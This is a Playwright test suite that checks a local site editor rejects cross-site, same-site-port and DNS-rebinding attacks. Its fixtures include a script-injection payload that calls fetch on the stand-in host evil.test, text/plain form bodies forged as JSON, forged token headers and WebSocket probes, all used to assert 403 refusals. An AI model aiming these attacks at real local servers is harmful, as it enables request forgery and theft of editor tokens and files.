import { chmod, cp, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { type BrowserContext, expect, type Page, test } from '@playwright/test';
import { apiPath, editorPath, tokenHeader } from '../../editor/api.ts';
import { findBrowser, playwrightArguments } from '../../scripts/findBrowser.ts';
import { type Started, type StartedEditor, startDevServer, startEditor } from '../tools/servers.ts';

// Another site, open in the same browser as the editor: a server on another port, as localhost (which browsers call same-site),
// as 127.0.0.1, and with another name (cross-site).
let place: string;
let content: string;
let editor: StartedEditor;
let foreign: Server;
let foreignPort: number;
const hits: string[] = [];

test.describe.configure({ mode: 'default' });
test.use({
  launchOptions: {
    executablePath: findBrowser(),
    args: [
      // Disables the permission prompt of newer browsers for local network access, because not all browsers have one.
      ...playwrightArguments('LocalNetworkAccessChecks'),
      '--host-resolver-rules=MAP *.test 127.0.0.1',
    ],
  },
});

const pages = (page: Page) => page.getByRole('table', { name: 'Pages' });

// `/__open-in-editor` starts the program in LAUNCH_EDITOR.
const started = () => readFile(path.join(place, 'started'), 'utf8').catch(() => '');

test.beforeAll(async () => {
  place = await mkdtemp(path.join(tmpdir(), 'attack-'));
  content = path.join(place, 'pages');
  await cp('tests/fixtures/second-site', content, { recursive: true });
  const program = path.join(place, 'program');
  await writeFile(program, `#!/bin/sh\necho "$@" >> '${path.join(place, 'started')}'\n`);
  await chmod(program, 0o700);
  process.env.LAUNCH_EDITOR = program;
  editor = await startEditor(content);
  foreign = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.setHeader('content-type', 'text/html');
    response.end('<!doctype html><title>Another site</title><body>');
  });
  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
  const address = foreign.address();
  foreignPort = typeof address === 'object' && address ? address.port : 0;
});
test.afterAll(async () => {
  foreign.closeAllConnections();
  foreign.close();
  await editor.stop();
  await rm(place, { recursive: true, force: true });
});

/** Every file below a folder of documents, with its content. */
async function filesOf(folder: string): Promise<Record<string, string>> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  const files = entries.filter((entry) => entry.isFile());
  const texts = files.map(async ({ parentPath, name }) => {
    const file = path.join(parentPath, name);
    return [file, await readFile(file, 'base64')] as const;
  });
  return Object.fromEntries(await Promise.all(texts));
}

/** Collects the server's responses, by attack. */
function listen(context: BrowserContext, server: Started) {
  const answers: Promise<{ what: string; status: number; body: string }>[] = [];
  const port = new URL(server.origin).port;
  context.on('response', (response) => {
    if (new URL(response.url()).port !== port) return;
    const request = response.request();
    const what = `${request.method()} ${request.resourceType()} ${response.url()}`;
    // The browser may discard bodies unread, which does not matter.
    const body = response.text().catch(() => '');
    answers.push(body.then((text) => ({ what, status: response.status(), body: text })));
  });
  return { all: () => Promise.all(answers) };
}

// A module address that once injected a script into the editor's page.
const script = (mark: string) =>
  `"><script>fetch("http://evil.test:${foreignPort}/${mark}")</script><x y=".js`;
const moduleAttack = () => `/src/theme/tokens.ts?${encodeURIComponent(script('ran'))}`;

/**
 * Runs in the attacker's page: everything that a page can request from another server. Returns what it could read or inject.
 */
async function attack(page: Page, target: string): Promise<string[]> {
  const paths = [
    moduleAttack(),
    '/__open-in-editor?file=README.md',
    editorPath,
    `${apiPath}read`,
    '/site.json',
    '/@vite/client',
  ];
  return page.evaluate(
    async ({ target, paths, editorPath, tokenHeader }) => {
      const got: string[] = [];
      // An attack ends when the browser reports the result, or after a few seconds.
      const over = (start: (done: (what?: string) => void) => void, name: string) =>
        new Promise<void>((resolve) => {
          const done = (what?: string) => {
            if (what !== undefined) got.push(`${name}: ${what}`);
            resolve();
          };
          setTimeout(done, 5000);
          start(done);
        });
      const element = (tag: string, attributes: Record<string, string>) =>
        over(
          (done) => {
            const made = document.createElement(tag);
            // A frame fires "load" whatever its content. The status of its response is checked outside.
            const tells = !['iframe', 'object', 'embed'].includes(tag);
            made.onload = () => done(tells ? 'loaded' : undefined);
            made.onerror = () => done();
            for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
            document.body.append(made);
            if (tag === 'video') made.addEventListener('loadeddata', () => done('loaded'));
          },
          `${tag} ${JSON.stringify(attributes)}`,
        );
      const ask = (address: string, options: RequestInit) =>
        over(
          (done) => {
            fetch(address, options).then(
              async (response) => {
                if (response.type === 'opaque') return done();
                const body = await response.text();
                done(`${response.status} ${body.slice(0, 80)}`);
              },
              () => done(),
            );
          },
          `fetch ${JSON.stringify(options)} ${address}`,
        );
      const form = (action: string, method: string, enctype: string) =>
        over((done) => {
          const name = `frame${Math.random()}`;
          const frame = document.createElement('iframe');
          frame.name = name;
          document.body.append(frame);
          const made = document.createElement('form');
          Object.assign(made, { action, method, enctype, target: name });
          // Sent as text/plain, this is valid JSON.
          const field = document.createElement('input');
          field.name = '{"name":"visit.json","document":{"a":"';
          field.value = '"}}';
          made.append(field);
          document.body.append(made);
          frame.onload = () => done();
          made.submit();
        }, 'form');

      const all: Promise<void>[] = [];
      for (const path of paths) {
        const address = target + path;
        all.push(
          element('img', { src: address }),
          element('img', { src: address, crossorigin: 'anonymous' }),
          element('script', { src: address }),
          element('script', { src: address, type: 'module' }),
          element('script', { src: address, crossorigin: 'use-credentials' }),
          element('link', { rel: 'stylesheet', href: address }),
          element('link', { rel: 'modulepreload', href: address }),
          element('link', { rel: 'preload', as: 'font', href: address, crossorigin: '' }),
          element('iframe', { src: address }),
          element('iframe', { src: address, sandbox: 'allow-scripts' }),
          element('object', { data: address }),
          element('embed', { src: address }),
          element('video', { src: address }),
          form(address, 'get', 'application/x-www-form-urlencoded'),
          form(address, 'post', 'application/x-www-form-urlencoded'),
          form(address, 'post', 'multipart/form-data'),
          form(address, 'post', 'text/plain'),
          over((done) => {
            import(address).then(
              () => done('imported'),
              () => done(),
            );
          }, `import ${address}`),
          over((done) => {
            const source = new EventSource(address);
            source.onopen = () => done('opened');
            source.onerror = () => {
              source.close();
              done();
            };
          }, `EventSource ${address}`),
        );
        for (const mode of ['cors', 'no-cors', 'same-origin'] as const) {
          all.push(
            ask(address, { mode }),
            ask(address, { mode, credentials: 'include', redirect: 'manual', cache: 'reload' }),
            ask(address, { mode, method: 'HEAD' }),
            ask(address, { mode, method: 'POST', body: '{}' }),
            ask(address, { mode, method: 'POST', body: new URLSearchParams({ a: 'b' }) }),
          );
        }
        const json = { 'content-type': 'application/json', [tokenHeader]: 'x'.repeat(43) };
        for (const method of ['GET', 'PUT', 'POST', 'DELETE', 'PATCH']) {
          const body = method === 'GET' ? null : '{"name":"visit.json","document":{}}';
          all.push(ask(address, { method, headers: json, body }));
        }
        navigator.sendBeacon(address, '{"name":"visit.json","document":{}}');
      }
      for (const path of paths.slice(0, 3)) window.open(`${target}${path}#token=${'x'.repeat(43)}`);
      const socketAddress = target.replace('http', 'ws');
      for (const protocol of ['vite-hmr', 'vite-ping', 'other']) {
        for (const path of ['/', '/?token=x', editorPath]) {
          all.push(
            over((done) => {
              const socket = new WebSocket(socketAddress + path, protocol);
              socket.onopen = () => done('open');
              socket.onclose = () => done();
            }, `WebSocket ${protocol} ${path}`),
          );
        }
      }
      await Promise.all(all);
      return got;
    },
    { target, paths, editorPath, tokenHeader },
  );
}

// Each local name from another port of the same name (same-site), and another site.
for (const [name, own] of [
  ['localhost', 'localhost'],
  ['127.0.0.1', '127.0.0.1'],
  ['evil.test', '127.0.0.1'],
] as const) {
  test(`a page of ${name} on another port cannot read, change or start anything on ${own}`, {
    tag: '@slow',
  }, async ({ context, page }) => {
    const before = await filesOf(content);
    const heard = listen(context, editor);
    await page.goto(`http://${name}:${foreignPort}/`);
    expect(await attack(page, `http://${own}:${editor.address.port}`)).toEqual([]);
    const answers = await heard.all();
    // The browser does not report the other responses, not even their status.
    expect(answers.length).toBeGreaterThan(40);
    expect(answers.filter(({ status }) => status !== 403)).toEqual([]);
    expect(answers.filter(({ body }) => body.includes(editor.token))).toEqual([]);
    expect(await filesOf(content)).toEqual(before);
    expect(await started()).toBe('');

    const opened = await context.newPage();
    await opened.goto(editor.address.href);
    await expect(pages(opened)).toBeVisible();
    expect(await opened.content()).not.toContain('evil.test');
    expect(hits).not.toContain('/ran');
  });
}

for (const name of ['localhost', 'evil.test']) {
  test(`a page of ${name} on another port is rejected by every endpoint of the editor`, {
    tag: name === 'evil.test' ? [] : '@slow',
  }, async ({ context, page }) => {
    const before = await filesOf(content);
    const heard = listen(context, editor);
    await page.goto(`http://${name}:${foreignPort}/`);
    const names = ['read', 'bytes', 'write', 'history', 'watch'];
    const read = await page.evaluate(
      async ({ target, endpoints, tokenHeader }) => {
        const body = '{"name":"visit.json","src":"/pictures/a.jpg","url":"http://evil.test/"}';
        const json = { 'content-type': 'application/json', [tokenHeader]: 'x'.repeat(43) };
        const got: string[] = [];
        for (const endpoint of endpoints) {
          navigator.sendBeacon(target + endpoint, body);
          // Sent as text/plain, this is valid JSON.
          const frame = document.createElement('iframe');
          frame.name = endpoint;
          const form = document.createElement('form');
          Object.assign(form, { action: target + endpoint, method: 'post', target: endpoint });
          form.enctype = 'text/plain';
          form.innerHTML = `<input name='{"name":"visit.json","a":"' value='"}'>`;
          document.body.append(frame, form);
          await new Promise((resolve) => {
            frame.onload = resolve;
            form.submit();
          });
          for (const options of [
            { headers: json },
            { mode: 'no-cors', headers: { 'content-type': 'text/plain' } },
            { mode: 'no-cors', credentials: 'include' },
          ] as const) {
            await fetch(target + endpoint, { method: 'POST', body, ...options }).then(
              ({ type, status }) => type !== 'opaque' && got.push(`${endpoint} ${status}`),
              () => {},
            );
          }
        }
        return got;
      },
      { target: editor.origin + apiPath, endpoints: names, tokenHeader },
    );
    expect(read).toEqual([]);
    // The browser does not report the status of some script requests.
    const answers = await heard.all();
    for (const endpoint of names) {
      const own = answers.filter(({ what }) => what.endsWith(apiPath + endpoint));
      const statuses = [...new Set(own.map(({ status }) => status))];
      expect([endpoint, ...statuses]).toEqual([endpoint, 403]);
    }
    expect(await filesOf(content)).toEqual(before);
  });
}

test('rejects another site’s name that resolves to this computer (DNS rebinding)', async ({
  page,
}) => {
  const before = await filesOf(content);
  const origin = `http://rebound.test:${editor.address.port}`;
  // The page was loaded from the other site's server before its name resolved to this computer.
  await page.route(`${origin}/attack`, (route) =>
    route.continue({ url: `http://127.0.0.1:${foreignPort}/` }),
  );
  await page.goto(`${origin}/attack`);
  const answers = await page.evaluate(
    async ({ paths, tokenHeader }) => {
      const read: string[] = [];
      for (const path of paths) {
        for (const method of ['GET', 'POST', 'PUT', 'DELETE']) {
          const body = method === 'GET' ? null : '{"name":"visit.json","document":{}}';
          const headers = { 'content-type': 'application/json', [tokenHeader]: 'x' };
          const response = await fetch(path, { method, headers, body });
          read.push(`${response.status} ${await response.text()}`);
        }
      }
      const socket = new WebSocket(`${location.origin.replace('http', 'ws')}/`, 'vite-hmr');
      read.push(
        await new Promise((resolve) => {
          socket.onopen = () => resolve('open');
          socket.onclose = () => resolve('closed');
        }),
      );
      return read;
    },
    {
      tokenHeader,
      paths: ['/', editorPath, '/@vite/client', '/__open-in-editor?file=README.md'].concat(
        ['read', 'write'].map((name) => apiPath + name),
      ),
    },
  );
  expect(answers).toHaveLength(6 * 4 + 1);
  for (const answer of answers) expect(answer).toMatch(/^403 This server answers|^closed$/);
  expect(await filesOf(content)).toEqual(before);
  expect(await started()).toBe('');
});

test('a link on another site leads to a page that explains how to open the editor', async ({
  page,
}) => {
  await page.goto(`http://evil.test:${foreignPort}/`);
  await page.evaluate((href) => {
    document.body.innerHTML = `<a href="${href}">Edit</a>`;
  }, editor.address.origin + editorPath);
  await page.getByRole('link').click();
  await expect(page.getByText('copy the address from the terminal')).toBeVisible();
});

test('the printed address opens the editor in any tab, and the token is removed from the address bar', {
  tag: '@slow',
}, async ({ context, page }) => {
  const { origin } = editor.address;
  await page.goto(origin + editorPath);
  await expect(page.getByRole('alert')).toContainText('Open the full address');
  // Entered in an open tab.
  await page.goto(editor.address.href);
  await expect(pages(page)).toBeVisible();
  expect(page.url()).toBe(origin + editorPath);
  expect(await context.cookies()).toEqual([]);
  const another = await context.newPage();
  await another.goto(origin + editorPath);
  await another.getByRole('button', { name: 'Continue here' }).click();
  await expect(pages(another)).toBeVisible();
});

test('a token from an earlier start is rejected, and the page explains what to do', {
  tag: '@slow',
}, async ({ page }) => {
  await page.goto(`${editor.address.origin}${editorPath}#token=${'x'.repeat(43)}`);
  await expect(page.getByRole('alert')).toContainText('Open the full address');
  await page.goto(editor.address.href);
  await expect(pages(page)).toBeVisible();
});

test('the editor and its canvas work under its policy without warnings or WebSockets', async ({
  page,
}) => {
  const complaints: string[] = [];
  page.on('console', (message) => {
    if (['warning', 'error'].includes(message.type())) complaints.push(message.text());
  });
  page.on('pageerror', (error) => complaints.push(error.message));
  const sockets: string[] = [];
  page.on('websocket', (socket) => sockets.push(socket.url()));
  await page.goto(editor.address.href);
  await pages(page).getByRole('link').first().click();
  const canvas = page.frameLocator('iframe').first();
  await expect(canvas.locator('h1')).toBeVisible();
  // The browser's default for h1 is 32 px.
  await expect(canvas.locator('h1')).not.toHaveCSS('font-size', '32px');
  expect({ complaints, sockets }).toEqual({ complaints: [], sockets: [] });
  // Injected scripts do not run in the editor or its canvas.
  const ran = await page.evaluate(
    () =>
      new Promise((resolve) => {
        const canvas = document.querySelector('iframe')?.contentDocument;
        let left = 4;
        for (const where of [document, canvas]) {
          if (!where) return resolve('There is no canvas.');
          where.addEventListener('securitypolicyviolation', () => {
            left -= 1;
            if (left === 0) resolve(Reflect.get(window, 'injected'));
          });
          const script = where.createElement('script');
          script.textContent = 'top.injected = true';
          where.body.append(script);
          where.body.insertAdjacentHTML(
            'beforeend',
            '<img src="data:," onerror="top.injected = 1">',
          );
        }
      }),
  );
  expect(ran).toBeUndefined();
});

test('the dev server starts a program only for its own page', {
  tag: '@slow',
}, async ({ page }) => {
  const dev = await startDevServer(content);
  try {
    const open = `${dev.origin}/__open-in-editor?file=README.md`;
    for (const name of ['localhost', 'evil.test']) {
      await page.goto(`http://${name}:${foreignPort}/`);
      await page.evaluate((address) => fetch(address, { mode: 'no-cors' }).catch(() => {}), open);
      await page.evaluate(
        (address) =>
          new Promise((resolve) => {
            const image = new Image();
            image.onerror = resolve;
            image.src = address;
          }),
        open,
      );
    }
    expect(await started()).toBe('');
    await page.goto(dev.origin);
    expect(await page.evaluate(async (address) => (await fetch(address)).status, open)).toBe(200);
    await expect.poll(started).toContain('README.md');
  } finally {
    await dev.stop();
    await rm(path.join(place, 'started'), { force: true });
  }
});
